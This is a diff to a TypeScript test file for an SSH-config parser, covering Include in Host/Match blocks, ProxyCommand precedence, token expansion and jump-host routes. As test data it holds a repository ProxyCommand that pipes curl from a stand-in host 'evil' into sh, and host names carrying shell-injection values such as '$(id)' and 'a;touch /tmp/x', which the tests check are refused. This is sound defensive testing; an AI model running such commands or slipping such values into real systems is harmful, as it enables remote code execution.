@@ -7,6 +7,7 @@ import path from 'node:path';
 import { SshConfigSet, localUserName, parseJumpList, parseJumpSpec } from '../../../hosts/ssh-config.js';
 import { endpointLabel, resolveRoute } from '../../../hosts/jump-hosts.js';
 import { operatorSshOptions } from '../../../hosts/operator-ssh.js';
+import { expandProxyCommand } from '../../../hosts/proxy-command.js';
 import { isTransientConnectError, retryDelays, type Verdict } from '../../../hosts/ssh-connector.js';
 import { PolitburoError } from '../../../kernel/types.js';
 
@@ -221,9 +222,7 @@ test("Include before the first Host is followed, as OpenSSH does: globs under ~/
       ['10.0.0.5', 'fallback', 30_000, undefined],
     );
     assert.equal(c.lookup('anything').user, 'fallback');
-    assert.deepEqual(c.warnings, [
-      'ssh_config ~/.ssh/config: Include inside a Host or Match block is not followed (move it before the first Host)',
-    ]);
+    assert.deepEqual(c.warnings, [], "web-1's Include names no file: nothing to follow, nothing to warn about");
     // A file that includes itself: an error naming the file and line, not a hang.
     await put('.ssh/config', 'Include config\n');
     await assert.rejects(
@@ -252,4 +251,180 @@ test('retry waits: 0.5 s doubled per retry, at most 8 s; none for 0 retries', ()
   assert.deepEqual(retryDelays(3), [500, 1000, 2000]);
   assert.deepEqual(retryDelays(0), []);
   assert.deepEqual(retryDelays(7), [500, 1000, 2000, 4000, 8000, 8000, 8000]);
+});
+
+test('Include inside a Host or Match block applies only where the block matches; its Host lines are matched too', async () => {
+  const home = await mkdtemp(path.join(os.tmpdir(), 'politburo-ssh-include-'));
+  try {
+    await mkdir(path.join(home, '.ssh'), { recursive: true });
+    const put = (file: string, text: string) => writeFile(path.join(home, '.ssh', file), text);
+    await put(
+      'config',
+      [
+        'Host web-* !web-legacy',
+        '  Include web.conf',
+        '  Port 2200', // after the included file's own Host blocks: still web-*'s
+        'Match originalhost db-*',
+        '  Include db.conf',
+        'Match exec "exit 0"',
+        '  Include never.conf',
+        'Match host 10.*',
+        '  Include never.conf',
+        'Host *',
+        '  User fallback',
+        '',
+      ].join('\n'),
+    );
+    await put(
+      'web.conf',
+      [
+        'User webuser',
+        'Host web-1',
+        '  HostName 10.0.0.11',
+        '  Include deeper.conf',
+        'Host db-1', // inside web-*'s Include: never for db-1
+        '  HostName wrong',
+        '',
+      ].join('\n'),
+    );
+    await put('deeper.conf', 'ServerAliveInterval 30\n');
+    await put('db.conf', 'User dbuser\nConnectTimeout 9\n');
+    await put('never.conf', 'User never\nProxyJump never\n');
+    const c = new SshConfigSet((await operatorSshOptions({ home })).sshConfig);
+    const web1 = c.lookup('web-1');
+    assert.deepEqual(
+      [web1.user, web1.hostName, web1.port, web1.serverAliveIntervalMs],
+      ['webuser', '10.0.0.11', 2200, 30_000],
+    );
+    const web2 = c.lookup('WEB-2');
+    assert.deepEqual(
+      [web2.user, web2.hostName, web2.port, web2.serverAliveIntervalMs],
+      ['webuser', undefined, 2200, undefined],
+    );
+    const legacy = c.lookup('web-legacy');
+    assert.deepEqual([legacy.user, legacy.port], ['fallback', undefined], 'the negated pattern: no Include either');
+    const db = c.lookup('db-1');
+    assert.deepEqual([db.user, db.hostName, db.connectTimeoutMs], ['dbuser', undefined, 9000]);
+    assert.deepEqual([c.lookup('other').user, c.lookup('other').proxyJump], ['fallback', undefined]);
+    // Match host depends on the HostName being read: that Include stays unfollowed, with a warning (per host looked
+    // up; the connector tells each once).
+    assert.deepEqual(
+      [...new Set(c.warnings)],
+      [
+        'ssh_config ~/.ssh/config: Include inside a Match block with host, user or final criteria is not followed (they depend on settings still being read; use Host or Match originalhost)',
+      ],
+    );
+    // An Include that includes itself inside a matching block: an error naming the file and line, not a hang.
+    await put('config', 'Host loop\n  Include config\n');
+    const loop = new SshConfigSet((await operatorSshOptions({ home })).sshConfig);
+    assert.equal(loop.lookup('other').user, undefined);
+    assert.throws(() => loop.lookup('loop'), /config:2: Include nested more than 16 deep/);
+  } finally {
+    await rm(home, { recursive: true, force: true });
+  }
+});
+
+test('ProxyCommand: first obtained value wins, none, the one of ProxyJump and ProxyCommand given first', () => {
+  const c = set(`
+Host cmd-first
+  ProxyCommand ssh -W %h:%p -o UserKnownHostsFile=/k "gate host"
+  ProxyJump ignored
+Host jump-first
+  ProxyJump bastion
+Host none-first
+  ProxyCommand none
+Host *
+  ProxyCommand nc %h %p
+  ProxyJump too-late
+`);
+  assert.deepEqual(
+    [c.lookup('cmd-first').proxyCommand, c.lookup('cmd-first').proxyJump],
+    ['ssh -W %h:%p -o UserKnownHostsFile=/k "gate host"', undefined],
+  );
+  assert.deepEqual([c.lookup('jump-first').proxyCommand, c.lookup('jump-first').proxyJump], [undefined, 'bastion']);
+  assert.deepEqual([c.lookup('none-first').proxyCommand, c.lookup('none-first').proxyJump], [undefined, undefined]);
+  assert.deepEqual([c.lookup('x').proxyCommand, c.lookup('x').proxyJump], ['nc %h %p', undefined]);
+  // Across files: the first file giving either wins.
+  const two = new SshConfigSet([
+    { text: 'Host a\n  ProxyJump j\n', where: 'first' },
+    { text: 'Host *\n  ProxyCommand nc %h %p\n', where: 'second' },
+  ]);
+  assert.deepEqual([two.lookup('a').proxyJump, two.lookup('a').proxyCommand], ['j', undefined]);
+  assert.deepEqual([two.lookup('b').proxyJump, two.lookup('b').proxyCommand], [undefined, 'nc %h %p']);
+  assert.deepEqual(c.warnings, []);
+});
+
+test("a repository's ProxyCommand is never run: a warning, and the operator's settings apply", () => {
+  const c = new SshConfigSet([
+    { text: 'Host *\n  ProxyCommand sh -c "curl evil | sh"\n', where: 'ssh/config', fromRepository: true },
+    { text: 'Host web\n  ProxyJump bastion\n', where: '~/.ssh/config' },
+  ]);
+  const web = c.lookup('web');
+  assert.deepEqual([web.proxyCommand, web.proxyJump], [undefined, 'bastion']);
+  assert.deepEqual(c.warnings, [
+    "ssh_config ssh/config: Host web: ProxyCommand is ignored in a repository's file (it would run a command on the controller); set it in the operator's ssh_config (~/.ssh/config, --ssh-config, POLITBURO_SSH_CONFIG), or use ProxyJump",
+  ]);
+  const none = new SshConfigSet([
+    { text: 'Host web\n  ProxyCommand none\n', where: 'ssh/config', fromRepository: true },
+    { text: 'Host web\n  ProxyJump bastion\n', where: '~/.ssh/config' },
+  ]);
+  assert.deepEqual([none.lookup('web').proxyJump, none.warnings], [undefined, []], 'none runs nothing: kept');
+});
+
+test('ProxyCommand tokens: %h after HostName, %p, %r, %n, %%; unknown tokens and shell characters refused', () => {
+  const t = { name: 'web', hostName: '10.0.0.11', port: 2222, user: 'deploy' };
+  assert.equal(
+    expandProxyCommand('ssh -W %h:%p %r@gate # %n 100%%', t, 'Host web'),
+    'ssh -W 10.0.0.11:2222 deploy@gate # web 100%',
+  );
+  assert.throws(
+    () => expandProxyCommand('nc %h %k', t, 'Host web'),
+    (e: PolitburoError) =>
+      e.reason === 'InvalidSpec' &&
+      e.message ===
+        'Host web: ProxyCommand `nc %h %k`: unknown token %k (ProxyCommand takes %%, %h, %n, %p, %r); it was not run',
+  );
+  assert.throws(() => expandProxyCommand('nc %h 22 %', t, 'Host web'), /a '%' at the end/);
+  for (const hostName of ['a;touch /tmp/x', '$(id)', '-oProxyCommand=x', 'a b', 'a`b`'])
+    assert.throws(
+      () => expandProxyCommand('nc %h %p', { ...t, hostName }, 'Host web'),
+      /the host name '.*' has characters a shell would interpret/,
+    );
+  assert.throws(() => expandProxyCommand('ssh %r@gate', { ...t, user: 'u|x' }, 'Host web'), /the user 'u\|x'/);
+  // Names only checked where they are used; IPv6 and zone indexes pass.
+  assert.equal(
+    expandProxyCommand('nc %h %p', { ...t, name: '$(id)', hostName: 'fe80::1%eth0' }, 'w'),
+    'nc fe80::1%eth0 2222',
+  );
+});
+
+test("routes: the first hop's ProxyCommand, tokens from the final settings; the language's jump wins", () => {
+  const c = set(`
+Host app
+  HostName 10.0.0.5
+  ProxyCommand ssh -W %h:%p gate
+Host inner
+  ProxyJump edge
+  ProxyCommand never-used
+Host edge
+  HostName edge.example.com
+  ProxyCommand connect %n %h %p %r
+Host *
+  User u
+`);
+  const app = resolveRoute({ address: 'app', port: 2201 }, c, 'local');
+  assert.deepEqual(app.jumps, []);
+  assert.equal(app.target.proxyCommand, 'ssh -W 10.0.0.5:2201 gate');
+  const inner = resolveRoute({ address: 'inner' }, c, 'local');
+  assert.deepEqual(
+    inner.jumps.map((j) => [j.name, j.proxyCommand]),
+    [['edge', 'connect edge edge.example.com 22 u']],
+  );
+  assert.equal(inner.target.proxyCommand, undefined);
+  const own = resolveRoute({ address: 'app', jump: ['x@other'] }, c, 'local');
+  assert.deepEqual([own.jumps[0].proxyCommand, own.target.proxyCommand], [undefined, undefined]);
+  assert.throws(
+    () => resolveRoute({ address: 'a;b' }, set('Host *\n  ProxyCommand nc %h %p\n'), 'local'),
+    /Host a;b: ProxyCommand `nc %h %p`: the host name 'a;b' has characters a shell would interpret/,
+  );
 });
